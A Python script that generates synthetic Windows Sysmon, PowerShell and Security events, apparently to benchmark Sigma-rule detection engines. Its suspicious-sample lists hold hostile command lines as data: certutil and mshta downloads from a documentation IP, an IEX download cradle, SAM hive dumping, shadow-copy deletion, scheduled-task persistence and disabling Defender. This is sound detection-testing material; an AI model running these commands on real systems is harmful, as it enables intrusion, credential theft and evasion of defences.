"""A deterministic generator of realistic Windows events (flat, as Zircolite/Hayabusa exports write them).

Sysmon process creation with real-looking command lines (mostly benign, a few of the techniques Sigma
rules look for), registry value sets, network connections, file creations, image loads, DNS queries,
PowerShell script blocks, and Security logons and process creations.

    python benchmarks/windows_events.py 200000 > events.jsonl
"""
from __future__ import annotations

import random
import sys
from collections.abc import Iterator
from typing import Any

SYSMON = "Microsoft-Windows-Sysmon/Operational"
USERS = ["CORP\\alice", "CORP\\bob", "CORP\\svc_backup", "NT AUTHORITY\\SYSTEM", "CORP\\carol"]
SYSTEM32 = "C:\\Windows\\System32\\"
BENIGN = [
    (SYSTEM32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "services.exe"),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
     "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US", "chrome.exe"),
    (SYSTEM32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", "cmd.exe"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
     "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\alice\\Report.docx\"",
     "explorer.exe"),
    (SYSTEM32 + "taskhostw.exe", "taskhostw.exe Install $(Arg0)", "svchost.exe"),
    (SYSTEM32 + "cmd.exe", "C:\\Windows\\system32\\cmd.exe /c dir C:\\Users\\bob\\Documents", "explorer.exe"),
    (SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NoProfile -File C:\\ops\\inventory.ps1",
     "svchost.exe"),
    ("C:\\Program Files\\Git\\cmd\\git.exe", "git.exe fetch --all --prune", "Code.exe"),
]
SUSPICIOUS = [
    (SYSTEM32 + "whoami.exe", "whoami /all", "cmd.exe"),
    (SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
     "WINWORD.EXE"),
    (SYSTEM32 + "rundll32.exe", "rundll32.exe C:\\Users\\Public\\payload.dat,DllMain", "cmd.exe"),
    (SYSTEM32 + "certutil.exe", "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe",
     "cmd.exe"),
    (SYSTEM32 + "reg.exe", "reg.exe save HKLM\\SAM C:\\Users\\Public\\sam.save", "cmd.exe"),
    (SYSTEM32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "cmd.exe"),
    (SYSTEM32 + "schtasks.exe", "schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon", "cmd.exe"),
    (SYSTEM32 + "mshta.exe", "mshta.exe http://198.51.100.7/x.hta", "explorer.exe"),
]
REGISTRY = ["HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
            "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring",
            "HKU\\S-1-5-21-1\\Software\\Microsoft\\Office\\16.0\\Word\\Options\\Theme",
            "HKLM\\System\\CurrentControlSet\\Services\\W32Time\\Start"]
DOMAINS = ["www.microsoft.com", "login.microsoftonline.com", "update.googleapis.com", "raw.githubusercontent.com",
           "pastebin.com", "198-51-100-7.example.net"]
SCRIPTS = ["Get-ChildItem -Path C:\\ops -Recurse | Measure-Object",
           "Invoke-WebRequest -Uri https://raw.githubusercontent.com/x/y/main/z.ps1 -OutFile z.ps1",
           "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')",
           "Set-MpPreference -DisableRealtimeMonitoring $true", "Get-Process | Sort-Object CPU -Descending"]


def events(count: int, seed: int = 7) -> Iterator[dict[str, Any]]:
    """``count`` events; the same ones for the same seed."""
    rng = random.Random(seed)
    for number in range(count):
        kind = rng.random()
        user = rng.choice(USERS)
        base = {"Computer": f"ws{number % 40:02d}.corp.example", "EventRecordID": number + 1,
                "UtcTime": f"2026-11-30 {number // 3600 % 24:02d}:{number // 60 % 60:02d}:{number % 60:02d}.000"}
        if kind < 0.45:
            image, command, parent = rng.choice(SUSPICIOUS) if rng.random() < 0.03 else rng.choice(BENIGN)
            yield {**base, "Channel": SYSMON, "EventID": 1, "Image": image, "CommandLine": command,
                   "OriginalFileName": image.rsplit("\\", 1)[1].upper(), "ParentImage": SYSTEM32 + parent,
                   "ParentCommandLine": parent, "User": user, "IntegrityLevel": rng.choice(["Medium", "High"]),
                   "CurrentDirectory": "C:\\Users\\Public\\", "Hashes": f"SHA256={number:064x}"}
        elif kind < 0.60:
            yield {**base, "Channel": SYSMON, "EventID": 13, "EventType": "SetValue", "TargetObject": rng.choice(REGISTRY),
                   "Details": rng.choice(["DWORD (0x00000001)", "C:\\Users\\Public\\u.exe", "DWORD (0x00000002)"]),
                   "Image": rng.choice(BENIGN)[0], "User": user}
        elif kind < 0.70:
            yield {**base, "Channel": SYSMON, "EventID": 3, "Image": rng.choice(BENIGN + SUSPICIOUS)[0],
                   "DestinationIp": f"198.51.100.{rng.randrange(1, 255)}", "DestinationPort": rng.choice([443, 80, 4444]),
                   "Initiated": "true", "Protocol": "tcp", "User": user}
        elif kind < 0.78:
            yield {**base, "Channel": SYSMON, "EventID": 11, "Image": rng.choice(BENIGN)[0],
                   "TargetFilename": rng.choice(["C:\\Users\\Public\\a.exe", "C:\\Users\\alice\\Report.docx",
                                                 "C:\\Windows\\Temp\\x.ps1", "C:\\ProgramData\\u.dll"])}
        elif kind < 0.85:
            yield {**base, "Channel": SYSMON, "EventID": 7, "Image": rng.choice(BENIGN)[0],
                   "ImageLoaded": rng.choice([SYSTEM32 + "ntdll.dll", SYSTEM32 + "amsi.dll", "C:\\Users\\Public\\p.dll"]),
                   "Signed": rng.choice(["true", "false"])}
        elif kind < 0.90:
            yield {**base, "Channel": SYSMON, "EventID": 22, "Image": rng.choice(BENIGN)[0],
                   "QueryName": rng.choice(DOMAINS), "QueryStatus": "0"}
        elif kind < 0.95:
            yield {**base, "Channel": "Microsoft-Windows-PowerShell/Operational", "EventID": 4104,
                   "ScriptBlockText": rng.choice(SCRIPTS), "Path": ""}
        else:
            yield {**base, "Channel": "Security", "EventID": rng.choice([4624, 4625, 4688]), "TargetUserName": user,
                   "LogonType": rng.choice([2, 3, 10]), "IpAddress": f"198.51.100.{rng.randrange(1, 255)}",
                   "NewProcessName": rng.choice(BENIGN)[0]}


if __name__ == "__main__":
    import json

    for event in events(int(sys.argv[1]) if len(sys.argv) > 1 else 200_000):
        sys.stdout.write(json.dumps(event) + "\n")
